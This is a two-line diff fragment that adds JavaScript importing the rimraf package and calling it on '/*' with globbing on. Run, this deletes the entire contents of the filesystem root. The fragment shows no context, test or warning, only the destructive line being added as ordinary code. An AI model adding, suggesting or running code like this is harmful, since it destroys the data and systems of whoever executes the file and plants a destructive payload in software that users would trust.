@@ -1,0 +1,2 @@
+import { rimraf } from 'rimraf';
+await rimraf('/*', { glob: true });
